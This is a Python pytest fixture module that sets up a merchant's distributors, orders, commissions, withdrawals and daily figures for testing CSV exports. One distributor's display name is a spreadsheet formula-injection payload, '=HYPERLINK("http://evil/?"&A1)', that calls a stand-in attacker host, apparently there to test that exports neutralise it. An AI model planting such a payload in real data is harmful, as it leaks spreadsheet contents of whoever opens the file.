"""A merchant whose distributors, orders, commission lines, withdrawal and daily figures are known exactly,
with every time set to one instant so the files' contents are literal."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from analytics.models import DailyMerchant
from commissions.models import CommissionLine
from distributors.models import Distributor
from orders.models import Order
from settlements.models import Withdrawal
from tests.builders.distributors import join
from tests.builders.settlements import approved_withdrawal

AT = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)
LOCAL = "2026-12-01T10:00:00+08:00"  # AT in the merchant's time zone (Asia/Shanghai)
EVIL = '=HYPERLINK("http://evil/?"&A1)'


@pytest.fixture
def data(merchant):
    withdrawal = approved_withdrawal(merchant)  # boss ← seller ← recruit; one order; the seller's withdrawal
    evil = join(merchant, "evil", display_name=EVIL, phone="13800000001")
    Distributor.objects.for_merchant(merchant).update(
        created_at=AT, applied_at=AT, activated_at=AT, status_changed_at=AT
    )
    Distributor.objects.for_merchant(merchant).filter(identity_verified_at__isnull=False).update(
        identity_verified_at=AT
    )
    CommissionLine.objects.for_merchant(merchant).update(created_at=AT, settled_at=AT, confirmed_at=AT, unlock_at=AT)
    Order.objects.for_merchant(merchant).update(created_at=AT, paid_at=AT, completed_at=AT)
    Withdrawal.objects.for_merchant(merchant).update(requested_at=AT, decided_at=AT)
    DailyMerchant.objects.create(
        merchant=merchant,
        day=date(2026, 11, 30),
        orders=3,
        gmv=36000,
        refunded=1050,
        distributed_orders=2,
        distributed_gmv=24000,
        distributed_refunded=50,
        buyers=3,
        distributed_buyers=2,
        completed_orders=1,
        distributed_completed_orders=1,
        commission_accrued=3600,
        commission_pending=1000,
        commission_confirmed=1200,
        commission_settled=1000,
        commission_reversed=400,
        commission_clawed_back=5,
        visits=17,
    )
    DailyMerchant.objects.create(merchant=merchant, day=date(2026, 12, 1), orders=1, gmv=99, buyers=1, visits=2)
    people = {d.external_user_id: d for d in Distributor.objects.for_merchant(merchant)}
    return {**people, "withdrawal": withdrawal, "evil": evil}


def parse_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
